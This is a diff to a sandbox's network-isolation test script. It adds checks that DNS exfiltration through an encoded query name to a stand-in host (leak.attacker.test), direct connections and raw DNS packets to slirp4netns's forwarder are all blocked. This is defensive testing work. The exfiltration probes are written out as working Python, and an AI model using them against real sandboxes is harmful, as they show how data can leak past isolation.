@@ -119,4 +119,37 @@ wait "$rotating"
 expect "a rotated-away address is unreachable after its TTL" "first=ok later=unreachable new=ok" \
   cat "$tmp/rotate.out"
 
+# The same under `vigil do --net allow=`.
+expect "vigil do: a query name carrying data never leaves" "refused" \
+  in_do python3 -c '
+import socket
+try:
+    socket.getaddrinfo("ZG8tc2VjcmV0.leak.attacker.test", 80)
+    print("resolved")
+except socket.gaierror:
+    print("refused")'
+if grep -qi "ZG8tc2VjcmV0.leak.attacker.test" "$tmp/dnsmasq.log"; then
+  not_ok "vigil do: the leaking name reached no nameserver" "$(context)"
+else
+  ok "vigil do: the leaking name reached no nameserver"
+fi
+expect "vigil do: an address learned out of band is unreachable" "unreachable" \
+  in_do python3 -c '
+import socket
+try:
+    socket.create_connection(("10.77.0.3", 8080), timeout=5)
+    print("connected")
+except OSError:
+    print("unreachable")'
+# slirp4netns's own DNS forwarder, past the sandbox's resolver.
+expect "vigil do: DNS straight to the forwarder is unreachable" "unreachable" \
+  in_do python3 -c '
+import socket
+s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+try:
+    s.sendto(b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x04leak\x00\x00\x01\x00\x01", ("10.0.2.3", 53))
+    print("sent")
+except OSError:
+    print("unreachable")'
+
 report
